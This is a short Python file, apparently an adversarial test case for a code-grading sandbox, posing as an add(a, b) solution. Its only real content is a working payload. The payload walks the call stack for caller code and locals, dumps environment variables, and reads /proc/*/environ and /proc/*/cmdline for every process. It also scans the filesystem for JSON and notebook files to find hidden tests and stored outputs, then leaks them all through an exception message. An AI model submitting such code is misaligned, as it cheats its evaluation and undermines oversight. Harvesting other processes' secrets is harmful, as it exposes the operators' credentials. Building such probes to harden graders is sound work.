# Adversarial payload: look everywhere for the source and stored outputs of the checks (the
# hidden ones above all) and raise them in a public check, whose message reaches the feedback.
# verdict: ok; passes: scale-two scale-three
# needs: bubblewrap
import os as _os
import sys as _sys


def _gather():
    found = []
    frame = _sys._getframe()
    while frame is not None:                       # the callers: whose code runs us?
        found.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
        found += [repr(v)[:200] for v in frame.f_locals.values()]
        frame = frame.f_back
    found += [f"{k}={v}" for k, v in _os.environ.items()]
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                found.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    for root, dirs, files in _os.walk("/", onerror=lambda error: None):
        if root.startswith(("/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/bin", "/sbin")) \
                or root.startswith(tuple(p for p in {_sys.prefix, _sys.base_prefix} if p != "/")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".json", ".jsonl")):
                try:
                    with open(_os.path.join(root, name), errors="replace") as f:
                        found.append(f.read(20000))
                except OSError:
                    pass
    return found


def add(a, b):
    raise RuntimeError("FOUND: " + " | ".join(_gather()))
